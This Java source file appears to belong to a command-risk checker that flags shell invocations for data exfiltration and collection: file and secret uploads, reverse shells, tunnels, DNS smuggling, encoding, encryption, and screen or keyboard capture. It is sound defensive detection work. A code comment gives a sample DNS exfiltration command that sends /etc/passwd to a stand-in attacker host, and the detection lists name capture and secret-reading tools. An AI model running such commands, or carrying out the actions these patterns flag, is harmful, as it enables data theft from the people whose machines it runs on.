package dev.warden.policy.risk;

import dev.warden.policy.command.Options;
import dev.warden.policy.command.ProgramKinds;
import dev.warden.policy.command.SecretLocations;
import dev.warden.policy.risk.NetworkUse.Payload;
import java.util.List;
import java.util.Locale;
import java.util.Set;

/**
 * Data exfiltration and its preparation (ATT&CK's exfiltration and collection tactics): files and data sent to
 * another machine, reverse shells, servers and tunnels that expose the machine, names that smuggle data through
 * DNS, and data gathered, packed or encoded to leave.
 */
final class ExfiltrationSignals {
    private ExfiltrationSignals() {
    }

    /** Programs that turn data into another form before it travels: encoders, compressors, ciphers. */
    private static final Set<String> ENCODERS = Set.of("base64", "base32", "basenc", "xxd", "od", "hexdump", "uuencode",
            "gzip", "bzip2", "xz", "zstd", "lz4", "gpg", "gpg2", "openssl", "b64encode", "rev");
    /** Programs that pack many files into one. */
    private static final Set<String> ARCHIVERS = Set.of("tar", "zip", "7z", "7za", "7zr", "rar", "cpio", "gzip", "bzip2",
            "xz", "zstd", "pax", "ar", "jar");
    /** Programs that read files named as operands and print or pack them. */
    private static final Set<String> FILE_READERS = Set.of("cat", "tac", "head", "tail", "less", "more", "base64",
            "base32", "xxd", "od", "hexdump", "strings", "dd", "tar", "zip", "gzip", "bzip2", "xz", "zstd", "cpio",
            "gpg", "gpg2", "openssl", "sort", "nl", "grep", "find", "awk", "sed", "cut", "uuencode", "7z", "7za");
    /** Programs that capture what a person sees, hears, types or copies. */
    private static final Set<String> CAPTURE = Set.of("import", "xwd", "scrot", "gnome-screenshot", "maim", "grim",
            "spectacle", "screencapture", "xclip", "xsel", "wl-paste", "pbpaste", "arecord", "parecord", "fswebcam",
            "streamer", "logkeys", "xinput", "xdotool");

    static void check(Invocation inv, Evidence ev) {
        for (NetworkUse use : NetworkClients.uses(inv)) {
            judge(use, inv, ev);
        }
        encodedLookups(inv, ev);
        collection(inv, ev);
    }

    private static void judge(NetworkUse use, Invocation inv, Evidence ev) {
        String remote = use.remote().isEmpty() ? "another machine" : Hosts.hostOf(use.remote());
        boolean local = !use.remote().isEmpty() && Hosts.isLocal(Hosts.hostOf(use.remote()));
        switch (use.payload()) {
            case NOTHING -> { }
            case FILE -> {
                boolean secret = SecretLocations.store(use.file()) != null;
                RiskLevel level = secret ? RiskLevel.CRITICAL : local ? RiskLevel.MEDIUM : RiskLevel.HIGH;
                ev.exfiltration(level, (secret ? "uploads a credential file to " : "uploads a local file to ") + remote,
                        use.evidence());
                sent(ev, use, local);
                if (secret) {
                    ev.secretsRead = use.file();
                }
            }
            case DATA -> {
                String e = use.evidence();
                boolean computed = e.contains("$(") || e.contains("`") || e.contains("$(…)") || e.contains("$(<");
                boolean secret = SecretLocations.secretVariable(e) != null || SecretLocations.store(e) != null;
                RiskLevel level = secret ? RiskLevel.CRITICAL : computed ? RiskLevel.HIGH : RiskLevel.MEDIUM;
                ev.exfiltration(local ? RiskLevel.LOW : level, secret ? "sends a secret to " + remote
                        : computed ? "sends data read at run time to " + remote : "sends data to " + remote, e);
                sent(ev, use, local);
            }
            case STDIN -> stdin(use, inv, remote, local, ev);
            case SHELL -> {
                ev.exfiltration(local ? RiskLevel.HIGH : RiskLevel.CRITICAL,
                        "hands a shell to " + remote + " (a reverse or bind shell)", use.evidence());
                ev.weakening(RiskLevel.HIGH, "gives whoever connects control of this machine", use.evidence());
                ev.dataSent = use.evidence();
            }
            case SERVE -> ev.exfiltration(RiskLevel.MEDIUM, "serves local files or a service to the network", use.evidence());
            case TUNNEL -> ev.exfiltration(RiskLevel.HIGH, "exposes this machine to the internet through a tunnel",
                    use.evidence());
            case MOUNT -> {
                ev.exfiltration(local ? RiskLevel.LOW : RiskLevel.MEDIUM,
                        "mounts a filesystem of " + remote + "; files copied into it leave the machine", use.evidence());
                sent(ev, use, local);
            }
        }
    }

    /** What flows into a client's standard input goes to the other side: judge where it comes from. */
    private static void stdin(NetworkUse use, Invocation inv, String remote, boolean local, Evidence ev) {
        for (String file : inv.reads()) {
            boolean secret = SecretLocations.store(file) != null;
            ev.exfiltration(secret ? RiskLevel.CRITICAL : local ? RiskLevel.MEDIUM : RiskLevel.HIGH,
                    (secret ? "sends a credential file to " : "sends a local file to ") + remote, use.evidence() + " < " + file);
            sent(ev, use, local);
            return;
        }
        if (inv.upstream().isEmpty()) {
            if (!local && !inv.name().equals("ssh") && !inv.name().equals("sshfs")
                    && !NetworkClients.isMailer(inv.name())) {
                ev.exfiltration(RiskLevel.MEDIUM, "opens a raw connection to " + remote, use.evidence());
                ev.dataSent = use.evidence();
            }
            return;
        }
        RiskLevel level = RiskLevel.MEDIUM;
        String what = "sends the output of a pipeline to " + remote;
        String source = inv.upstream().getFirst().line();
        for (Invocation producer : inv.upstream()) {
            String name = producer.name();
            boolean secret = producer.args().stream().anyMatch(w -> SecretLocations.store(w) != null)
                    || (name.equals("env") || name.equals("printenv")) && producer.operands().isEmpty();
            if (secret) {
                level = RiskLevel.CRITICAL;
                what = "sends credentials to " + remote;
                source = producer.line();
                break;
            }
            boolean encodes = ENCODERS.contains(name) && !producer.args().contains("-d") && !producer.args().contains("-r");
            boolean readsFiles = FILE_READERS.contains(name) && producer.operands().stream().anyMatch(w -> !w.startsWith("$"))
                    || !producer.reads().isEmpty();
            if (encodes || readsFiles) {
                level = RiskLevel.HIGH;
                what = encodes ? "encodes data and sends it to " + remote : "sends the content of local files to " + remote;
                source = producer.line();
            }
        }
        ev.exfiltration(local ? RiskLevel.LOW : level, what, source + " | " + use.evidence());
        sent(ev, use, local);
    }

    private static void sent(Evidence ev, NetworkUse use, boolean local) {
        if (!local) {
            ev.dataSent = use.evidence();
        }
    }

    /** DNS lookups (and requests) whose host name carries data: dig $(cat /etc/passwd | base64).evil.example. */
    private static void encodedLookups(Invocation inv, Evidence ev) {
        if (!NetworkClients.isLookupOrRequest(inv.name())) {
            return;
        }
        for (String w : inv.args()) {
            if (w.startsWith("-") || w.startsWith("@")) {
                continue;
            }
            String host = Hosts.hostOf(w);
            String why = Hosts.smuggling(host);
            if (why != null) {
                ev.exfiltration(RiskLevel.HIGH, "looks up " + why + ", a way to smuggle data out through DNS",
                        inv.name() + " " + w);
                ev.dataSent = w;
                return;
            }
        }
    }

    /** Gathering data to take away: packing or encrypting files from outside the workspace, capturing screens and keys. */
    private static void collection(Invocation inv, Evidence ev) {
        String name = inv.name().toLowerCase(Locale.ROOT);
        if (ENCODERS.contains(name) && !inv.has("-d") && !inv.has("--decode") && !inv.has("-r") || name.equals("openssl")
                && (inv.has("enc") || inv.hasAny("rsautl", "pkeyutl", "smime", "cms") && inv.has("-encrypt"))) {
            ev.dataEncoded = inv.line();
        }
        if (ARCHIVERS.contains(name) || name.equals("gpg") || name.equals("gpg2") || name.equals("openssl")
                || name.equals("ccencrypt") || name.equals("ccrypt")) {
            for (String w : inv.operands()) {
                if (!w.equals("-") && (SensitivePaths.outsideWorkspace(w, inv.context()) && !SensitivePaths.scratch(w, inv.context())
                        || SecretLocations.store(w) != null)) {
                    ev.exfiltration(RiskLevel.MEDIUM, "packs data from outside the workspace", inv.name() + " " + w);
                    break;
                }
            }
        }
        boolean encrypts = (name.equals("gpg") || name.equals("gpg2")) && inv.args().stream().anyMatch(w ->
                w.equals("-c") || w.equals("-e") || w.equals("--symmetric") || w.equals("--encrypt")
                        || Options.clusterHas(w, "ce", "orRu"))
                || name.equals("zip") && inv.args().stream().anyMatch(w -> w.equals("-e") || w.equals("-P")
                        || w.startsWith("--password") || w.equals("--encrypt"))
                || (name.equals("7z") || name.equals("7za")) && inv.args().stream().anyMatch(w -> w.startsWith("-p"))
                || name.equals("openssl") && (inv.has("enc") || inv.has("-encrypt"))
                || name.equals("ccencrypt") || name.equals("ccrypt") || name.equals("age") || name.equals("aescrypt");
        if (encrypts) {
            ev.exfiltration(RiskLevel.MEDIUM, "encrypts data, hiding what it is", inv.line());
            ev.dataEncoded = inv.line();
        }
        if (CAPTURE.contains(name) && captures(name, inv)) {
            ev.exfiltration(RiskLevel.MEDIUM, "captures the screen, clipboard, microphone or keyboard", inv.line());
        }
        if (name.equals("ffmpeg") && inv.args().stream().anyMatch(w -> w.equals("x11grab") || w.equals("v4l2")
                || w.equals("alsa") || w.equals("pulse") || w.equals("avfoundation"))) {
            ev.exfiltration(RiskLevel.MEDIUM, "records the screen, camera or microphone", inv.line());
        }
        if (name.equals("split") && inv.args().stream().anyMatch(w -> w.equals("-b") || w.startsWith("--bytes")
                || w.startsWith("-b"))) {
            ev.exfiltration(RiskLevel.MEDIUM, "cuts data into fixed-size chunks, a way under transfer limits", inv.line());
        }
        if (name.equals("dd") && inv.args().stream().anyMatch(w -> w.startsWith("if=/dev/sd") || w.startsWith("if=/dev/nvme")
                || w.startsWith("if=/dev/mem") || w.startsWith("if=/dev/vd") || w.startsWith("if=/dev/disk"))) {
            ev.exfiltration(RiskLevel.MEDIUM, "copies a whole disk or memory device", inv.line());
        }
        if (name.equals("find") && sweeps(inv)) {
            ev.exfiltration(RiskLevel.MEDIUM, "runs a reader or copier over files found outside the workspace", inv.line());
        }
        for (int k = 0; k < inv.args().size(); k++) {
            String w = inv.args().get(k);
            String l = inv.lowerArgs().get(k);
            if (l.contains("/var/mail") || l.contains("/var/spool/mail")) {
                ev.exfiltration(RiskLevel.MEDIUM, "reads or copies mailboxes", inv.name() + " " + w);
                break;
            }
        }
    }

    /** find / -exec cp {} /stage \;: every file found outside the workspace read, copied or handed to a script. */
    private static boolean sweeps(Invocation inv) {
        List<String> a = inv.args();
        boolean outside = false;
        for (String w : a) {
            if (w.startsWith("-") || w.equals("!") || w.equals("(")) {
                break;
            }
            outside |= SensitivePaths.outsideWorkspace(w, inv.context()) && !SensitivePaths.scratch(w, inv.context());
        }
        if (a.isEmpty() || a.getFirst().startsWith("-") || a.getFirst().equals("!")) {
            outside = SensitivePaths.outsideWorkspace(".", inv.context()) && !SensitivePaths.scratch(".", inv.context());
        }
        if (!outside) {
            return false;
        }
        for (int i = 0; i + 1 < a.size(); i++) {
            if (a.get(i).equals("-exec") || a.get(i).equals("-execdir")) {
                String program = Options.basename(a.get(i + 1));
                if (FILE_READERS.contains(program) || COPIERS.contains(program) || ProgramKinds
                        .isShell(program)) {
                    return true;
                }
            }
        }
        return false;
    }

    private static final Set<String> COPIERS = Set.of("cp", "gcp", "rsync", "scp", "install", "ln", "mv", "tar", "zip");

    private static boolean captures(String name, Invocation inv) {
        return switch (name) {
            case "import" -> inv.has("-window") || inv.has("root");
            case "xwd" -> inv.has("-root") || inv.has("-id");
            case "xinput" -> inv.has("test") || inv.has("--test") || inv.has("test-xi2");
            case "xdotool" -> inv.has("getactivewindow") && inv.has("getwindowname");
            default -> true;
        };
    }
}
